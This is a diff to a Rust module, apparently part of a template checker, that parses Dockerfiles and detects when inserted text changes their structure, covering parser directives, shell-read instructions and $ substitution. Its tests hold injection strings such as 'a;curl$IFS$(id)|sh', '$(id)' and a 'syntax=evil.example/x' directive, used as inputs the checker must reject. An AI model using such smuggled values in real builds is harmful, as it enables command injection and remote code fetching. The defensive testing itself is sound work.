@@ -1,6 +1,7 @@
 //! Dockerfiles, compared instruction by instruction and word by word.
 
 use super::{Finding, ParseFailure, Tokens};
+use crate::template::engine::Emission;
 
 /// One instruction: its line, its name, and its words. The words of a here-document are its lines.
 #[derive(Debug, PartialEq, Eq)]
@@ -37,6 +38,9 @@ pub(super) fn parse(text: &str) -> Result<Vec<Instruction>, ParseFailure> {
     let mut instructions = Vec::new();
     let mut lines = text.lines().enumerate().map(|(index, line)| (index + 1, line));
     while let Some((number, line)) = lines.next() {
+        if is_directive(line) {
+            instructions.push(Instruction { line: number, name: DIRECTIVE.to_owned(), words: vec![line.to_owned()] });
+        }
         if line.trim().is_empty() || line.trim_start().starts_with('#') {
             continue;
         }
@@ -75,6 +79,22 @@ fn instruction(line: usize, text: &str) -> Result<Instruction, ParseFailure> {
     Ok(Instruction { line, name: upper, words })
 }
 
+/// The name under which a parser directive is kept.
+const DIRECTIVE: &str = "#";
+
+/// Instructions whose words a shell reads.
+const COMMANDS: [&str; 5] = ["CMD", "ENTRYPOINT", "HEALTHCHECK", "ONBUILD", "RUN"];
+
+/// Comments that the builder acts upon, as `# syntax=…` (Dockerfile reference, "Parser directives"). It does so at the top only; a
+/// comment further down that looks like one is taken for one too.
+fn is_directive(line: &str) -> bool {
+    let comment = line.trim_start().strip_prefix('#').map(str::trim_start).unwrap_or_default();
+    comment.split_once('=').is_some_and(|(key, _)| {
+        let key = key.trim_end();
+        !key.is_empty() && key.chars().all(|character| character.is_ascii_alphanumeric())
+    })
+}
+
 /// The delimiters of `<<EOF`, `<<-EOF` and `<<"EOF"`.
 fn heredocs(instruction: &str) -> Vec<String> {
     let delimiter = |word: &str| {
@@ -93,23 +113,35 @@ pub(super) fn compare(rendered: &str, harmless: &str, tokens: &Tokens<'_>) -> Re
         one.line == other.line
             && one.name == other.name
             && one.words.len() == other.words.len()
-            && one.words.iter().zip(&other.words).all(|(word, expected)| tokens.matches(expected, word))
+            && one.words.iter().zip(&other.words).all(|(word, expected)| {
+                if one.name == DIRECTIVE || COMMANDS.contains(&one.name.as_str()) {
+                    tokens.is_word(expected, word)
+                } else {
+                    tokens.matches(expected, word) && tokens.texts_in(expected).all(substitutes_nothing)
+                }
+            })
     };
     let all = rendered.len() == harmless.len() && rendered.iter().zip(&harmless).all(|(one, other)| same(one, other));
     if all { Ok(()) } else { Err(Finding::Structure) }
 }
 
+/// The builder replaces `$NAME` in the words of most instructions, unless the sign is escaped.
+fn substitutes_nothing(text: &Emission) -> bool {
+    text.is_constant
+        || !text.raw.contains('$')
+        || text.encoded.as_ref().is_some_and(|encoded| !encoded.replace("\\$", "").contains('$'))
+}
+
 #[cfg(test)]
 mod tests {
-    use super::{Finding, Tokens, compare, parse};
-    use crate::template::engine::Emission;
+    use super::{Emission, Finding, Tokens, compare, parse};
 
     #[test]
     fn reads_what_dockerfiles_hold() {
         let text = "# syntax=docker/dockerfile:1\nFROM a AS b\nRUN --mount=type=cache,target=/x \\\n    # why\n    go build \\\n\n    ./...\nRUN <<EOF\necho \"one\necho two\nEOF\nENTRYPOINT [\"/x\"]\n";
         let found: Vec<(usize, String, usize)> =
             parse(text).expect("it parses").into_iter().map(|one| (one.line, one.name, one.words.len())).collect();
-        let expected = [(2, "FROM", 3), (3, "RUN", 4), (8, "RUN", 3), (12, "ENTRYPOINT", 1)];
+        let expected = [(1, "#", 1), (2, "FROM", 3), (3, "RUN", 4), (8, "RUN", 3), (12, "ENTRYPOINT", 1)];
         assert_eq!(found, expected.map(|(line, name, words)| (line, name.to_owned(), words)));
         for bad in ["FORM x\n", "RUN \"x\n", "RUN x \\\n", "RUN <<E\nx\n"] {
             assert!(parse(bad).is_err(), "{bad}");
@@ -119,7 +151,7 @@ mod tests {
     #[test]
     fn a_text_stays_a_text_or_is_found_out() {
         let printed = |template: &str, text: &str| {
-            let texts = [Emission { raw: text.into(), encoded: None }];
+            let texts = [Emission { raw: text.into(), encoded: None, is_constant: false }];
             compare(&template.replace("{}", text), &template.replace("{}", "pv0z"), &Tokens { prefix: "pv", texts: &texts })
         };
         assert_eq!(printed("FROM x\nLABEL a=\"{}\"\n", "Takes card payments"), Ok(()));
@@ -127,6 +159,16 @@ mod tests {
             let found = printed("FROM x\nLABEL a=\"{}\"\n", text);
             assert!(matches!(found, Err(Finding::Structure | Finding::Unparsable(_))), "{text:?} {found:?}");
         }
-        assert_eq!(printed("FROM x\nLABEL a={}\n", "x y"), Err(Finding::Structure));
+        for (template, text) in [
+            ("FROM x\nLABEL a={}\n", "x y"),
+            ("FROM x\nRUN echo {}\n", "a;curl$IFS$(id)|sh"),
+            ("FROM x\nRUN echo \"{}\"\n", "$(id)"),
+            ("# {}\nFROM x\n", "syntax=evil.example/x"),
+            ("# {}\nFROM x\n", "escape=`"),
+            ("FROM x\nLABEL a=\"{}\"\n", "$HOME"),
+        ] {
+            assert_eq!(printed(template, text), Err(Finding::Structure), "{template} {text}");
+        }
+        assert_eq!(printed("# {}: all of it\nFROM x\nRUN make {}\n", "payments"), Ok(()));
     }
 }
